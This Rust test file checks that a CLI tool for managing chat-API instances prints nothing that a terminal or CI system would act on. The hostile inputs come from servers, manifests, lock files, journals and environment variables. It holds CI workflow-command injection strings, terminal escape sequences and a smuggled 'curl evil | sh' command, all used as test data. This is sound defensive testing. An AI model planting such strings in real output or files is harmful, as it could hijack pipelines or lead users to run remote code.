//! What others wrote, printed: a server, a manifest, a lock file, a journal, an environment, a command line (T10, T11, T19).

use std::collections::BTreeSet;
use std::path::PathBuf;

use chatapi::text::is_hidden;

use crate::stage::{Asked, Gateway, OtherGateway, Project, Reply, Run, manifest, rechained};

/// What a terminal or a CI system would act on.
const EVIL: &str = "x\n::set-output name=a::b\r\n  ::add-mask::c\n##vso[task.setvariable variable=d]e\n##teamcity[f]\n##[error]g\
                    \u{1b}[2J\u{1b}]0;t\u{7}\u{9b}31m\u{202e}\u{200b}\u{e0041}";

/// Verbs that print what is known, in both forms, loud and in colour.
const SHOWING: [&str; 12] = [
    "plan",
    "plan --format json",
    "plan -vvv",
    "plan -vvv --log-format json",
    "plan --color always",
    "state list",
    "state list --format json",
    "state show",
    "state show --format json",
    "state show b",
    "doubts",
    "doubts --format json",
];

/// `text` without our own colours.
fn without_colours(text: &str) -> String {
    let mut pieces = text.split("\u{1b}[");
    let first = pieces.next().unwrap_or_default().to_owned();
    pieces.fold(first, |clean, piece| match piece.split_once('m') {
        Some((digits, rest)) if digits.bytes().all(|byte| byte.is_ascii_digit() || byte == b';') => clean + rest,
        _ => clean + "\u{1b}[" + piece,
    })
}

/// Nothing in what a run printed is a command to anybody.
#[track_caller]
fn is_harmless(what: &str, run: &Run) {
    for text in [&run.stdout, &run.stderr].map(|text| without_colours(text)) {
        assert!(text.chars().all(|c| c == '\n' || !is_hidden(c)), "{what}: {run}");
        let lower = text.to_lowercase();
        assert!(!["##vso[", "##teamcity[", "##["].iter().any(|word| lower.contains(word)), "{what}: {run}");
        assert!(!text.lines().any(|line| line.trim_start().starts_with("::")), "{what}: {run}");
    }
}

#[track_caller]
fn shows_harmlessly(what: &str, project: &Project) {
    for line in SHOWING {
        let run = project.call(line.split(' ')).coloured().run();
        is_harmless(&format!("{what}: {line}"), &run);
        if line.contains("--format json") && !run.stdout.is_empty() {
            let _ = run.json();
        }
    }
}

fn json(text: &str) -> String {
    serde_json::to_string(text).unwrap()
}

fn files(project: &Project) -> BTreeSet<PathBuf> {
    Project::files(project.dir()).into_keys().map(|path| path.strip_prefix(project.dir()).unwrap().to_owned()).collect()
}

#[test]
fn t10_t11_a_server_steers_nothing_with_what_it_says() {
    type Say = fn(&Asked) -> Reply;
    let says: [(&str, Say); 7] = [
        ("an error", |_| Reply::new(400, format!(r#"{{"error":{}}}"#, json(EVIL)))),
        ("an error in pieces", |_| Reply::new(200, format!(r#"{{"error":{{{}:[{}]}}}}"#, json(EVIL), json(EVIL)))),
        ("a page", |_| Reply::new(500, EVIL)),
        ("a status", |_| Reply::new(200, format!(r#"{{"result":{{"status":{}}}}}"#, json(EVIL)))),
        ("an id", |_| Reply::new(200, created(EVIL, "https://h/", "Token0123456789"))),
        ("an address", |_| Reply::new(200, created("1", EVIL, "Token0123456789"))),
        ("a list", |asked| {
            if asked.is_create() {
                return Reply::new(500, "");
            }
            let (evil, address) = (json(EVIL), json("https://h/##vso[task.x]y##teamcity[z]"));
            let item = format!(r#"{{"id":"7","name":{evil},"type":{evil},"apiUrl":{address}}}"#);
            Reply::new(200, format!(r#"{{"result":[{item},{{"id":{evil},"type":"whatsapp"}}]}}"#))
        }),
    ];
    for (what, say) in says {
        let server = OtherGateway::start(say);
        let project = Project::at(&server.url(), &["a", "b"]);
        for line in ["apply -vvv", "apply --format json", "apply -vvv --log-format json --color always", "doubts --refresh -vvv"]
        {
            is_harmless(what, &project.call(line.split(' ')).coloured().run());
        }
        shows_harmlessly(what, &project);
    }
}

fn created(id: &str, address: &str, token: &str) -> String {
    let instance = format!(r#"{{"id":{},"apiUrl":{},"token":{}}}"#, json(id), json(address), json(token));
    format!(r#"{{"result":{{"status":"created","instance":{instance}}}}}"#)
}

#[test]
fn t11_t19_an_address_is_shown_without_its_commands_and_names_no_file() {
    let address = "https://h/##vso[task.x;variable=a]b/../../c##[error]d";
    let server = OtherGateway::start(move |asked| {
        if asked.is_create() { Reply::new(200, created("7", address, "Token0123456789")) } else { Reply::new(404, "") }
    });
    let project = Project::at(&server.url(), &["b"]);
    is_harmless("apply", &project.run("apply -vvv").exits(0));
    shows_harmlessly("an address", &project);
    let listed = project.run("state list --format json").exits(0).json();
    assert_eq!(listed[0]["api_url"], address, "a program still reads what the server said");
    let expected = ["chatapi.lock", "instances.yaml", "state/.gitignore", "state/journal.jsonl", "state/lock"];
    let index = |path: &PathBuf| path.starts_with("state/index");
    let found: BTreeSet<PathBuf> = files(&project).into_iter().filter(|path| !index(path)).collect();
    assert_eq!(found, expected.map(PathBuf::from).into());
}

#[test]
fn t20_a_token_is_printed_byte_for_byte_where_it_is_asked_for() {
    let token = "##vso[x]::y";
    let server = OtherGateway::start(move |asked| {
        if asked.is_create() { Reply::new(200, created("7", "https://h/", token)) } else { Reply::new(404, "") }
    });
    let project = Project::at(&server.url(), &["b"]);
    project.run("apply").done();
    assert_eq!(project.token("b"), token);
}

#[test]
fn t10_t11_a_manifest_steers_nothing_with_its_names_or_its_files() {
    let project = Project::new("");
    let name = serde_json::to_string(EVIL).unwrap();
    for text in [
        format!("instances:\n  - {{name: {name}, type: whatsapp}}\n"),
        format!("instances:\n  - {{name: a, type: {name}}}\n"),
        format!("instances:\n  - {{name: a, type: whatsapp, {name}: 1}}\n"),
        format!("{name}: 1\n"),
        "instances:\n  - name: '##vso[task.x]y'\n    type: '::error::z'\n".to_owned(),
        format!("# {EVIL}\n- \u{1b}[2J: [\n::error::x\n##vso[y]\n"),
    ] {
        project.declare(&text);
        for line in ["validate", "validate --format json", "plan", "apply --color always", "apply -vvv"] {
            is_harmless(line, &project.call(line.split(' ')).coloured().run().exits(1));
        }
    }
    let file = "x\n::error::##vso[y]\u{1b}[2J.yaml";
    std::fs::create_dir(project.path("team")).unwrap();
    project.write(&format!("team/{file}"), "instances: 7");
    for words in [["validate", "team"], ["validate", file], ["plan", file], ["apply", file], ["init", file], ["--state", file]] {
        is_harmless(file, &project.call(words).run());
    }
    for words in [
        vec!["state", "rebuild", "--from-lock", file],
        vec!["plan", "--lock-file", file],
        vec!["emulator", "--fault", EVIL],
        vec!["emulator", "--faults", file],
        vec!["emulator", "--latency", EVIL],
        vec!["emulator", "--data", file, "--listen", "1.1.1.1:1"],
        vec!["state", "list", "--state", file],
        vec!["plan", "--timeout", EVIL],
        vec![EVIL],
        vec!["plan", "-x\n::error::y"],
        vec!["--format", EVIL, "plan"],
        vec!["state", "show", EVIL],
        vec!["resolve", "a", "--attempt", EVIL, "--created", EVIL],
    ] {
        let run = project.call(&words).run();
        assert_ne!(run.code, 0, "{words:?}: {run}");
        is_harmless(&format!("{words:?}"), &run);
    }
    for variable in ["CHATAPI_FORMAT", "CHATAPI_LOG", "CHATAPI_STATE", "CHATAPI_URL", "CHATAPI_API_KEY_FILE", "CHATAPI_COLOR"] {
        let run = project.call(["apply", "--lock-timeout", "0s"]).env(variable, EVIL).run();
        is_harmless(variable, &run);
    }
}

#[test]
fn t11_a_lock_file_steers_nothing() {
    let gateway = Gateway::start(&["create:nth=2=drop-after"]);
    let project = Project::at(&gateway.url(), &["a", "b"]);
    project.run("apply --parallelism 1").exits(3);
    let lock = project.read("chatapi.lock");
    let parts: serde_json::Value = serde_json::from_str(&lock).unwrap();
    let attempt = parts["in_doubt"]["b"]["attempt"].as_str().unwrap();
    let lineage = parts["lineage"].as_str().unwrap();
    let origin = parts["origin"].as_str().unwrap();
    std::fs::remove_dir_all(project.state()).unwrap();
    for (part, evil) in [(attempt, EVIL), (attempt, "a; curl evil | sh"), (lineage, EVIL), (origin, EVIL), ("\"a\"", EVIL)] {
        let (part, evil) = if part == "\"a\"" { (part.to_owned(), json(evil)) } else { (json(part), json(evil)) };
        project.write("chatapi.lock", lock.replace(&part, &evil));
        shows_harmlessly("a lock file", &project);
        for line in ["state rebuild --from-lock chatapi.lock", "apply -vvv", "doubts", "plan -vvv"] {
            let run = project.run(line);
            is_harmless(line, &run);
            assert!(!format!("{run}").contains("curl evil"), "a command that people are told to type: {run}");
        }
        shows_harmlessly("a rebuilt state", &project);
        let _ = std::fs::remove_dir_all(project.state());
    }
}

#[test]
fn t10_t11_a_journal_that_somebody_wrote_steers_nothing() {
    let gateway = Gateway::start(&["create:nth=2=drop-after", "create:nth=3=refuse:no"]);
    let project = Project::at(&gateway.url(), &["a", "b", "c"]).with("USER", "PlainUser").with("BUILD_URL", "PlainJob");
    project.run("apply --parallelism 1").exits(3);
    let journal = project.read("state/journal.jsonl");
    let reason = project.run("state show b --format json").exits(0).json()["reason"].as_str().unwrap().to_owned();
    let closed = project.run("state show c --format json").exits(0).json()["reason"].as_str().unwrap().to_owned();
    std::fs::remove_file(project.lock_file()).unwrap();
    for part in ["PlainUser", "PlainJob", reason.as_str(), closed.as_str(), gateway.url().trim_end_matches('/')] {
        assert!(journal.contains(part), "{part} is in the journal: {journal}");
        let evil = json(EVIL);
        project.write("state/journal.jsonl", rechained(&journal.replace(part, evil.trim_matches('"'))));
        std::fs::remove_dir_all(project.state().join("index")).unwrap_or_default();
        shows_harmlessly(part, &project);
        for line in ["state show c", "plan", "apply -vvv", "doubts --refresh", "state list -vvv"] {
            is_harmless(part, &project.call(line.split(' ')).env("CHATAPI_LOG", "trace").run());
        }
    }
}

#[test]
fn t10_t11_whoever_holds_the_lock_steers_nothing() {
    let (server, _) = OtherGateway::healthy(true);
    let project = Project::new(&manifest("{kind: chatapi}", &["a"])).with("CHATAPI_URL", server.url());
    let project = project.with("CHATAPI_API_KEY", crate::stage::KEY).with("GITHUB_ACTOR", EVIL).with("BUILD_URL", EVIL);
    server.hold();
    let apply = project.call(["apply", "-vvv"]).start();
    server.sees_creates(1);
    for line in ["apply", "apply --lock-timeout 1s", "init", "state mv a b", "doubts", "doubts --format json"] {
        is_harmless(line, &project.run(line));
    }
    let who = serde_json::json!({ "user": EVIL, "host": EVIL, "job": EVIL, "commit": EVIL });
    let holder = serde_json::json!({ "pid": 7, "verb": EVIL, "since": "2026-01-01T00:00:00Z", "who": who });
    project.write("state/lock", holder.to_string());
    is_harmless("a lock", &project.run("apply").exits(5).warns("set-output"));
    server.release();
    let run = apply.wait();
    is_harmless("the holder", &run);
    run.done();
}
